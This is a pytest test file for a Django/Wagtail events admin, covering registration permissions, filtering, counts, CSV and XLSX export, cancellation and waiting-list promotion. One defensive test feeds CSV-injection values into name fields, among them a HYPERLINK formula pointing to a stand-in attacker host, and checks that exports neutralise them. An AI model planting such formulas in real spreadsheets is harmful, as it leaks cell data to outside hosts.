"""Registrations in the admin: only event managers see them; filters, counts, export, cancel."""

import csv
import io

import openpyxl
import pytest

from django.contrib.auth.models import Group

from events.models import EventRegistration
from tests.events.conftest import event_form_data
from tests.events.factories import EventPageFactory, EventRegistrationFactory

Status = EventRegistration.Status
LISTING = "/admin/eventregistration/"


@pytest.fixture
def registrations(event):
    return {
        "seated": EventRegistrationFactory(event=event, name="Seated Person", email="s@x.org"),
        "waiting": EventRegistrationFactory(
            event=event, name="Waiting Person", email="w@x.org", status=Status.WAITLISTED
        ),
        "gone": EventRegistrationFactory(
            event=event, name="Gone Person", email="g@x.org", status=Status.CANCELLED
        ),
    }


def test_event_managers_group_exists_with_the_registration_permissions(db):
    group = Group.objects.get(name="Event managers")
    codenames = set(group.permissions.values_list("codename", flat=True))
    assert {"view_eventregistration", "change_eventregistration", "access_admin"} <= codenames


@pytest.mark.parametrize(
    "url",
    [LISTING, LISTING + "?export=csv", LISTING + "inspect/{pk}/", LISTING + "cancel/{pk}/"],
)
def test_editor_without_the_permission_gets_403(client, editor, registrations, url):
    client.force_login(editor)
    response = client.get(url.format(pk=registrations["seated"].pk))
    assert response.status_code == 403
    assert b"s@x.org" not in response.content


def test_editor_sees_no_registrations_menu_or_dashboard_panel(client, editor, registrations):
    client.force_login(editor)
    dashboard = client.get("/admin/").content.decode()
    assert LISTING not in dashboard
    assert "Upcoming events and registrations" not in dashboard


def test_event_manager_lists_filters_and_counts(client, event_manager, event, registrations):
    other = EventPageFactory(parent=event.get_parent(), title="Other event")
    EventRegistrationFactory(event=other, name="Elsewhere", email="e@x.org")
    client.force_login(event_manager)
    listing = client.get(LISTING, {"event": event.pk})
    assert listing.status_code == 200
    content = listing.content.decode()
    assert "Seated Person" in content and "Waiting Person" in content
    assert "Elsewhere" not in content
    assert "<strong>Confirmed:</strong> 1" in content
    assert "<strong>On the waiting list:</strong> 1" in content
    assert "<strong>Cancelled:</strong> 1" in content
    waiting_only = client.get(LISTING, {"event": event.pk, "status": "waitlisted"})
    text = waiting_only.content.decode()
    assert "Waiting Person" in text and "Seated Person" not in text


def test_event_manager_exports_csv_and_xlsx(client, event_manager, event, registrations):
    client.force_login(event_manager)
    csv_response = client.get(LISTING, {"event": event.pk, "export": "csv"})
    assert csv_response.status_code == 200
    csv_text = b"".join(csv_response.streaming_content).decode()
    assert "s@x.org" in csv_text and "w@x.org" in csv_text
    xlsx = client.get(LISTING, {"event": event.pk, "export": "xlsx"})
    assert xlsx.status_code == 200
    workbook = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content)))
    rows = list(workbook.active.values)
    assert len(rows) == 4  # headings + three registrations
    assert "Email" in rows[0]


def test_event_manager_cancels_and_the_waiting_list_moves_up(
    client, event_manager, events_index, django_capture_on_commit_callbacks, mailoutbox
):
    small = EventPageFactory(parent=events_index, capacity=1, title="Small")
    seated = EventRegistrationFactory(event=small)
    waiting = EventRegistrationFactory(event=small, status=Status.WAITLISTED)
    client.force_login(event_manager)
    confirm = client.get(f"{LISTING}cancel/{seated.pk}/")
    assert confirm.status_code == 200
    assert "Yes, cancel it" in confirm.content.decode()
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post(f"{LISTING}cancel/{seated.pk}/")
    assert response.status_code == 302
    seated.refresh_from_db()
    waiting.refresh_from_db()
    assert seated.status == Status.CANCELLED
    assert seated.cancelled_by == "manager"
    assert waiting.status == Status.CONFIRMED
    assert {m.to[0] for m in mailoutbox} == {seated.email, waiting.email}


def test_nobody_adds_or_deletes_registrations_in_the_admin(admin_client, registrations):
    assert admin_client.get(LISTING + "new/").status_code == 403
    pk = registrations["seated"].pk
    assert admin_client.post(f"{LISTING}delete/{pk}/").status_code == 403
    assert EventRegistration.objects.filter(pk=pk).exists()


def test_dashboard_panel_shows_seats_taken(client, event_manager, event, registrations):
    client.force_login(event_manager)
    dashboard = client.get("/admin/").content.decode()
    assert "Upcoming events and registrations" in dashboard
    assert "Access to services" in dashboard
    assert "1 / 20" in dashboard
    assert f"{LISTING}?event={event.pk}" in dashboard


def test_raising_the_capacity_in_the_admin_promotes_waiting_people(
    admin_client, events_index, django_capture_on_commit_callbacks, mailoutbox
):
    full = EventPageFactory(parent=events_index, capacity=1, slug="full", title="Full")
    EventRegistrationFactory(event=full)
    waiting = EventRegistrationFactory(event=full, status=Status.WAITLISTED)
    start, end = full.local_start, full.local_end
    data = event_form_data(
        title="Full",
        slug="full",
        event_type=full.event_type,
        start=start.strftime("%Y-%m-%d %H:%M"),
        end=end.strftime("%Y-%m-%d %H:%M"),
        online_link=full.online_link,
        capacity="2",
    )
    with django_capture_on_commit_callbacks(execute=True):
        response = admin_client.post(f"/admin/pages/{full.pk}/edit/", data)
    assert response.status_code == 302
    waiting.refresh_from_db()
    assert waiting.status == Status.CONFIRMED
    assert [m.subject for m in mailoutbox] == ["A seat is now yours: Full"]


def test_unconfirmed_requests_are_not_listed_counted_or_exported(
    client, event_manager, event, registrations
):
    EventRegistrationFactory(
        event=event, name="Not Confirmed", email="n@x.org", status=Status.UNCONFIRMED
    )
    client.force_login(event_manager)
    content = client.get(LISTING, {"event": event.pk}).content.decode()
    assert "Not Confirmed" not in content
    assert "<strong>Confirmed:</strong> 1" in content
    csv_response = client.get(LISTING, {"event": event.pk, "export": "csv"})
    assert "n@x.org" not in b"".join(csv_response.streaming_content).decode()
    dashboard = client.get("/admin/").content.decode()
    assert "1 / 20" in dashboard


@pytest.mark.parametrize(
    "typed",
    [
        '=HYPERLINK("http://evil.example/?"&B3,"Click")',
        "+1 555 0100",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
    ],
)
def test_exported_cells_that_could_be_formulas_open_as_text(client, event_manager, event, typed):
    EventRegistrationFactory(event=event, name=typed, organisation=typed, email="f@x.org")
    client.force_login(event_manager)

    csv_response = client.get(LISTING, {"event": event.pk, "export": "csv"})
    text = b"".join(csv_response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows[0]["Name"] == "'" + typed
    assert rows[0]["Organisation"] == "'" + typed
    assert rows[0]["Email"] == "f@x.org"  # ordinary cells are left alone

    xlsx = client.get(LISTING, {"event": event.pk, "export": "xlsx"})
    sheet = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx.streaming_content))).active
    headings = [cell.value for cell in sheet[1]]
    name = sheet.cell(row=2, column=headings.index("Name") + 1)
    assert name.data_type == "s"
    assert name.value.startswith("'")
    assert name.value[1:].replace("\n", "\r") == typed.replace("\n", "\r")  # xlsx keeps \n


def test_the_admin_log_names_no_registrant(admin_client, event, registrations):
    from wagtail.models import ModelLogEntry

    seated = registrations["seated"]
    data = {
        "name": "Seated Person",
        "organisation": "City of Example",
        "role": "Mayor",
        "country": "KE",
        "needs": "",
        "local_government": "",
    }
    response = admin_client.post(f"{LISTING}edit/{seated.pk}/", data)
    assert response.status_code == 302
    entry = ModelLogEntry.objects.get(object_id=str(seated.pk), action="wagtail.edit")
    assert entry.label == f"Registration #{seated.pk} for Access to services"
    history = admin_client.get(f"{LISTING}history/{seated.pk}/").content.decode()
    assert "Seated Person" not in history and "s@x.org" not in history
    assert "Registration #" in history
